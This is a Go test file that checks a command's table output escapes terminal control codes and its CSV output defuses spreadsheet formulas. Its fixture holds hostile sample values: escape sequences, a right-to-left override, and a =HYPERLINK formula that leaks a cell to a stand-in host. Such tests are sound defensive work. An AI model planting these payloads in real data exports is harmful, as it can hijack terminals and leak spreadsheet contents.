package main

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/regc/regc/mtrain"
)

// sneakyMice come from a server whose names hold terminal controls and
// spreadsheet formulas.
var sneakyMice = []mtrain.Mouse{
	{LabTracksID: 1, Regimen: "R_v1.0.0", Stage: "\x1b]0;owned\x07\x1b[2Jstage\u202e", State: mtrain.State{ID: 7}},
	{LabTracksID: 2, Regimen: `=HYPERLINK("http://x/?"&A1,"click")`, Stage: "+1", State: mtrain.State{ID: 8}},
	{LabTracksID: 3, Regimen: "@SUM(A1)", Stage: "-2+3", State: mtrain.State{ID: 9}},
}

func miceOutput(t *testing.T, format string) string {
	t.Helper()
	var out bytes.Buffer
	if err := writeMice(quietEnv(&out), format, sneakyMice); err != nil {
		t.Fatal(err)
	}
	return out.String()
}

// The table escapes what would act on a terminal.
func TestMiceTableEscapesControls(t *testing.T) {
	out := miceOutput(t, "table")
	for _, bad := range []string{"\x1b", "\x07", "\u202e"} {
		if strings.Contains(out, bad) {
			t.Errorf("the table holds %q raw:\n%s", bad, out)
		}
	}
	if !strings.Contains(out, `\x1b[2Jstage\u202e`) {
		t.Errorf("the stage is not shown escaped:\n%s", out)
	}
}

// No CSV cell starts a formula; the values are kept after a quote mark.
func TestMiceCSVNeutralisesFormulas(t *testing.T) {
	rows, err := csv.NewReader(strings.NewReader(miceOutput(t, "csv"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows[1:] {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
				t.Errorf("cell %q starts a formula", cell)
			}
		}
	}
	if rows[2][1] != `'=HYPERLINK("http://x/?"&A1,"click")` || rows[3][2] != "'-2+3" {
		t.Errorf("cells not kept after a quote mark: %q", rows)
	}
}

// The table and the CSV name the same columns.
func TestMiceTableAndCSVSameColumns(t *testing.T) {
	table := strings.Fields(strings.SplitN(miceOutput(t, "table"), "\n", 2)[0])
	header := strings.Split(strings.SplitN(miceOutput(t, "csv"), "\n", 2)[0], ",")
	if strings.Join(table, ",") != strings.Join(header, ",") {
		t.Errorf("table columns %q, CSV columns %q", table, header)
	}
}
